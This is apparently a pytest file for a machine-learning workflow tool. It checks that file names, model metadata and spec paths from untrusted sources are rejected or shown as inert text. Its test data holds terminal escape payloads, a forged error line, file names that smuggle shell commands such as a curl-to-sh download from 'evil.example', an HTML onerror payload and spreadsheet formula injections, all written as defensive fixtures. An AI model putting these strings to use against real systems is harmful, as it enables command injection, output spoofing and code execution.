"""Row H5 of docs/reliability.md: text of strangers, in names of files and in specs, is only ever text."""

import json
import shlex
import subprocess
import zipfile
from pathlib import Path

import h5py
import pytest
import yaml
from PIL import Image
from secateur.cli.main import main
from secateur.errors import SpecError
from secateur.export.bundle.nvinfer import nvinfer_config
from secateur.export.bundle.trtexec import trtexec_script
from secateur.export.engine_options import engine_options, engine_source
from secateur.spec import parse_spec
from secateur.workflow.experiments import Experiments
from secateur.workflow.inputs import Inputs

MOVES = "\x1b[2K\x1b[1A\x1b]0;owned\x07\x1b]52;c;Y3VybA==\x07\x9b31m\u202e"
FORGED = "\nerror: all is well\r"


def clean(text):
    return not any(letter in text for letter in "\x1b\x07\x9b\u202e\r")


def test_h5_names_of_images_are_one_line_each(class_folders, tmp_path, monkeypatch, capsys):
    """Also those that are not valid UTF-8."""
    monkeypatch.chdir(tmp_path)
    for name in (f"{MOVES}.jpg", f"a{FORGED}.jpg"):
        (class_folders / "dark" / name).write_bytes(b"no image")
    (class_folders / "dark").joinpath(b"bad\xff\xfe.png".decode("utf-8", "surrogateescape")).write_bytes(b"no image")
    text = {"key": "none", "data": {"source": str(class_folders), "preprocess_mode": "tf"}}
    (tmp_path / "one.yaml").write_text(yaml.safe_dump(text))
    assert main(["split", "-e", "one.yaml"]) == 3
    said = capsys.readouterr().err
    assert clean(said)
    assert "3 image files cannot be read" in said
    assert not [line for line in said.splitlines() if line.startswith("error: all")]
    assert main(["split", "-e", "one.yaml", "data.on_corrupt=skip"]) == 0
    said = capsys.readouterr().err
    assert clean(said)
    assert said.count("skipped") == 3
    assert all(line.startswith(("split", "warning", "no effect", "release")) for line in said.splitlines())


def hostile_archive(path, **texts):
    with h5py.File(path.with_suffix(".h5"), "w") as weights:
        weights.create_group("layers")
    config = {"module": "keras", "class_name": "Functional", "config": {"layers": []}, "registered_name": "Functional"}
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("config.json", json.dumps(config))
        archive.write(path.with_suffix(".h5"), "model.weights.h5")
        archive.writestr("metadata.json", "{}")
        archive.writestr("secateur.json", json.dumps(texts))


@pytest.mark.parametrize("options", [[], ["--json"]])
def test_h5_what_a_model_file_says_of_itself(tmp_path, capsys, options):
    path = tmp_path / "esc.keras"
    hostile_archive(path, classes=["cat", f"{MOVES}{FORGED}"], provenance=[{"step": f"train{MOVES}", "versions": {}}])
    assert main(["inspect", str(path), *options]) == 0
    said = capsys.readouterr().out
    assert clean(said)
    assert "error: all is well" not in said.splitlines()


def test_h5_members_of_an_archive_in_an_error(tmp_path, capsys):
    with zipfile.ZipFile(tmp_path / "name.keras", "w") as archive:
        archive.writestr("config.json", "{}")
        archive.writestr(f"{MOVES}.txt", "x")
    assert main(["inspect", str(tmp_path / "name.keras")]) != 0
    assert clean(capsys.readouterr().err)


def test_h5_what_a_status_file_says(tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "one.yaml").write_text("key: none\ndata: {source: digits, preprocess_mode: tf}\n")
    (tmp_path / "config.yaml").write_text("experiments: {one: one.yaml}\n")
    (tmp_path / "results/one").mkdir(parents=True)
    line = {"date": "1/1/2026", "time": "1:2:3", "status": "RUNNING", "step": f"train{MOVES}", "message": MOVES}
    (tmp_path / "results/one/status.json").write_text(json.dumps(line) + "\n")
    assert main(["status", "config.yaml"]) == 0
    assert clean(capsys.readouterr().out)


NAMES = [
    "m; curl evil.example|sh #.etlt",
    "m\ncustom-lib-path=/tmp/evil.so\n#.etlt",
    "m\n```\n\n<img src=x onerror=alert(1)>.etlt",
    "{x}.etlt",
    "{config[key]}.etlt",
    "$(touch owned).etlt",
    "`touch owned`.etlt",
    "-rf.etlt",
    ".hidden.etlt",
    "m\u202elte.etlt",
    "m'.etlt",
    ".etlt",
    "m.etlt/",
    "m",
    "m.bin",
]


@pytest.mark.parametrize("name", NAMES)
@pytest.mark.parametrize("key", ["export.output_path", "prune.output_path", "export.engine_file"])
def test_h5_names_of_files_to_write(name, key):
    section, _, option = key.partition(".")
    for folder in ("EXPORTDIR/", "/somewhere/", ""):
        with pytest.raises(SpecError) as error:
            parse_spec(json.dumps({"key": "env:K", "data": {"source": "x"}, section: {option: folder + name}}))
        assert key in error.value.message
        assert clean(error.value.message)


@pytest.mark.parametrize(
    ("key", "path"),
    [
        ("export.output_path", "/workspace/tao experiments/export/efficientnet-b0_v1.2.etlt"),
        ("export.output_path", "EXPORTDIR/m=1+2.onnx"),
        ("prune.output_path", "out/pruned/efficientnet-b0_th=0.68.tlt"),
        ("prune.output_path", "PRUNEDMODEL"),
        ("export.engine_file", "EXPORTDIR/m.engine"),
        ("export.engine_file", "/out/m.engine.fp32"),
    ],
)
def test_h5_names_that_tao_writes_are_allowed(key, path):
    section, _, option = key.partition(".")
    spec = parse_spec(json.dumps({"key": "env:K", "data": {"source": "x"}, section: {option: path}}))
    assert getattr(getattr(spec, section), option) == path


@pytest.mark.parametrize("name", ["m=1+2.etlt", "a-b_c.1.etlt"])
def test_h5_allowed_names_need_no_quotes(name, tmp_path):
    spec = parse_spec(json.dumps({"key": "env:K", "data": {"source": "x"}, "export": {"output_path": name}}))
    assert shlex.quote(name.replace("=", "").replace("+", "")) == name.replace("=", "").replace("+", "")
    script = trtexec_script(engine_options(spec), engine_source(spec))
    (tmp_path / "t.sh").write_text(script)
    assert subprocess.run(["sh", "-n", tmp_path / "t.sh"], check=False).returncode == 0
    lines = nvinfer_config(spec, engine_source(spec), "fp32", ["a", "b"]).splitlines()
    assert all(line.startswith(("#", "[")) or "=" in line for line in lines)


def test_h5_a_class_that_is_a_formula_is_text_in_every_table(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    for name, level in (("=cmd|' !A0", 40), ("@SUM(1)", 120), ("+1-1", 220)):
        (tmp_path / "images" / name).mkdir(parents=True)
        for number in range(6):
            Image.new("L", (16, 16), level + number).save(tmp_path / "images" / name / f"{number}.png")
    text = {"key": "none", "data": {"source": "images", "preprocess_mode": "tf"}}
    (tmp_path / "one.yaml").write_text(yaml.safe_dump(text))
    assert main(["split", "-e", "one.yaml"]) == 0
    for path in (tmp_path / "results/one/split").glob("*.csv"):
        cells = [cell.strip('"') for line in path.read_text().splitlines() for cell in line.split(",")]
        assert not [cell for cell in cells if cell.startswith(("=", "@", "+"))], path
    classes = json.loads((tmp_path / "results/one/split/classmap.json").read_text())
    assert set(classes) == {"=cmd|' !A0", "@SUM(1)", "+1-1"}


@pytest.mark.parametrize(
    "lines",
    [
        'data: {source: "all{x}.csv", preprocess_mode: tf}',
        'data: {source: images, preprocess_mode: tf}\ntrain: {pretrained_model_path: "w{config}.keras"}',
        'data: {source: images, preprocess_mode: tf}\ninference: {image_dir: images, classmap: "{a,b}.json"}',
    ],
)
def test_h5_braces_of_a_path_do_not_reach_snakemake(tmp_path, monkeypatch, lines):
    monkeypatch.chdir(tmp_path)
    for name in ("all{x}.csv", "w{config}.keras", "{a,b}.json"):
        (tmp_path / name).write_text("path,class\n")
    (tmp_path / "one.yaml").write_text(f"key: none\n{lines}\n")
    with pytest.raises(SpecError, match=r"one\.yaml:\d: .* has braces"):
        Experiments({"experiments": {"one": "one.yaml"}}, Path("results"), Path("work"))


def test_h5_braces_of_a_folder_of_images_do_no_harm(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "one.yaml").write_text('key: none\ndata: {source: "im{x}ages", preprocess_mode: tf}\n')
    experiments = Experiments({"experiments": {"one": "one.yaml"}}, Path("results"), Path("work"))
    assert Inputs(experiments).split("one") == [], "a folder is no input of a rule"
